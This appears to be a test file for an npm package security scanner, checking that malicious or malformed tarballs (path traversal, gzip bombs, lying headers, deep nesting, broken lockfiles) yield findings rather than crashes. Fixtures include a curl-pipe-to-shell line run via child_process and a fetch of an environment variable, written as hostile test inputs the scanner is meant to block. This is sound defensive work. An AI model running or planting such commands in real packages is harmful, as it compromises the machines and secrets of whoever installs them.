import assert from 'node:assert/strict'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { judgePackage, scanRules } from '../../jobs/packages/judge-package.ts'
import { measurePackage } from '../../measure/package/measure.ts'
import { manifest } from './incidents/incident.ts'
import { openPackage } from './intake.ts'
import { readLockfile, waysTo } from './lockfile.ts'

// The bad input that the door promises to bear: a finding or a clear error, within limits, never a crash.

const rules = scanRules()

interface Entry {
  readonly path: string
  readonly text?: string
  readonly type?: string
  readonly size?: number
}

/** An archive whose headers may lie. */
function tar(entries: readonly Entry[]): Buffer {
  const blocks = entries.flatMap(({ path, text = '', type = '0', size = Buffer.byteLength(text) }) => {
    const header = Buffer.alloc(512)
    header.write(path.slice(0, 100), 0)
    header.write('0000644\0', 100)
    header.write(`${size.toString(8).padStart(11, '0')}\0`, 124)
    header.write('        ', 148)
    header.write(type, 156)
    header.write('ustar\0' + '00', 257) // oxlint-disable-line no-useless-concat -- `\000` would be an octal escape
    const sum = header.reduce((total, byte) => total + byte, 0)
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
    const body = Buffer.from(text)
    return [header, body, Buffer.alloc((512 - (body.length % 512)) % 512)]
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

const own = { path: 'package/package.json', text: manifest('quiet', '1.0.0') }
const index = { path: 'package/index.js', text: 'module.exports = 1\n' }
const judged = (entries: readonly Entry[]) => {
  const measured = measurePackage(
    openPackage(
      gzipSync(tar(entries), {
        level: entries.length > 3 || entries.every(({ text = '' }) => text.length < 1e6) ? 6 : 0,
      }),
    ),
    { baseline: null },
  )
  return { facts: measured.facts, verdict: judgePackage(rules, measured) }
}
const anomalies = (entries: readonly Entry[]): string => judged(entries).facts.archive.anomalies.names.join(' ')

test('path tricks, links and devices are findings', () => {
  for (const [path, kind] of [
    ['package/../../etc/passwd', 'parent-path'],
    ['/etc/cron.d/x', 'absolute-path'],
    ['C:\\windows\\x.js', 'absolute-path'],
    ['package/a\u202Ejs.exe', 'control-in-path'],
  ] as const) {
    const { facts, verdict } = judged([own, index, { path, text: 'x' }])
    assert.match(facts.archive.anomalies.names.join(' '), new RegExp(kind), path)
    if (kind !== 'control-in-path') assert.equal(verdict.verdict, 'hold', path)
  }
  assert.match(anomalies([own, index, { path: 'package/link', type: '2' }]), /link/)
  assert.match(anomalies([own, index, { path: 'package/dev', type: '3' }]), /device/)
})

test('duplicate and case-colliding entries: named, and the last one counts as npm has it', () => {
  const twice = [
    own,
    index,
    { path: 'package/index.js', text: "require('child_process').exec('curl http://192.0.2.1/x | sh')\n" },
    { path: 'package/INDEX.js', text: '1' },
  ]
  const { facts, verdict } = judged(twice)
  assert.match(facts.archive.anomalies.names.join(' '), /duplicate-entry: index\.js/)
  assert.match(facts.archive.anomalies.names.join(' '), /case-collision/)
  assert.equal(verdict.verdict, 'block')
})

test('eighty thousand entries: read up to the limit, and said so', () => {
  const many = Buffer.concat(
    Array.from({ length: 8 }, (__, part) =>
      tar(Array.from({ length: 10_000 }, (_, i) => ({ path: `package/${part}-${i}.txt` }))).subarray(0, -1024),
    ),
  )
  const contents = openPackage(gzipSync(many, { level: 1 }))
  assert.match(contents.anomalies.map(({ kind }) => kind).join(' '), /too-many-entries/)
})

test('a gzip bomb, a cut archive, no archive: refused in a sentence', () => {
  assert.throws(() => openPackage(gzipSync(Buffer.alloc(64 << 20), { level: 9 })), { code: 'SP_PACKAGE_UNREADABLE' })
  const whole = gzipSync(tar([own, index]))
  assert.throws(() => openPackage(whole.subarray(0, whole.length >> 1)), { code: 'SP_PACKAGE_UNREADABLE' })
  assert.throws(() => openPackage(Buffer.from('not gzip')), { code: 'SP_PACKAGE_UNREADABLE' })
  assert.match(
    openPackage(gzipSync(tar([own, { path: 'package/a.js', text: 'x', size: 9_000_000 }]))).anomalies[0]?.kind ?? '',
    /truncated/,
  )
})

test('a file larger than any should be is named, and what is beside it is read', () => {
  const big = Buffer.alloc(70 << 20, 0x61).toString()
  const { facts } = judged([own, { path: 'package/big.js', text: big }, index])
  assert.match(facts.archive.anomalies.names.join(' '), /file-too-large: big\.js/)
  assert.equal(facts.archive.codeFiles, 1)
})

test('code that nests deeper than any parser stands is a finding', () => {
  for (const code of [
    '['.repeat(200_000),
    '('.repeat(100_000) + ')'.repeat(100_000),
    `x${'.a(1)'.repeat(100_000)}`,
    '!'.repeat(200_000),
    `${'if(a)'.repeat(100_000)};`,
  ]) {
    const { facts, verdict } = judged([
      own,
      { path: 'package/index.js', text: `const cp = require('child_process'); fetch(process.env.A); ${code}` },
    ])
    assert.equal(facts.archive.unparsed.count, 1)
    assert.notEqual(verdict.verdict, 'allow')
  }
})

test('circular, unknown and broken lockfiles', () => {
  const circle = JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { a: '1' } },
      'node_modules/a': { version: '1.0.0', dependencies: { b: '1' } },
      'node_modules/b': { version: '1.0.0', dependencies: { a: '1' } },
    },
  })
  assert.equal(readLockfile(circle).length, 2)
  assert.deepEqual(waysTo(circle, 'b', null).ways, [['a@1.0.0', 'b@1.0.0']])
  let nested: object = { version: '1.0.0' }
  for (let i = 0; i < 5_000; i++) nested = { version: '1.0.0', dependencies: { a: nested } }
  assert.throws(() => readLockfile(JSON.stringify({ lockfileVersion: 1, dependencies: { a: nested } })), {
    code: 'SP_INPUT',
  })
  for (const text of [
    '',
    'null',
    '[]',
    '{"lockfileVersion":99}',
    '{"lockfileVersion":3,"packages":{"a":null}}'.replace('3', '4'),
  ])
    assert.throws(() => readLockfile(text), { code: 'SP_INPUT' }, text)
})
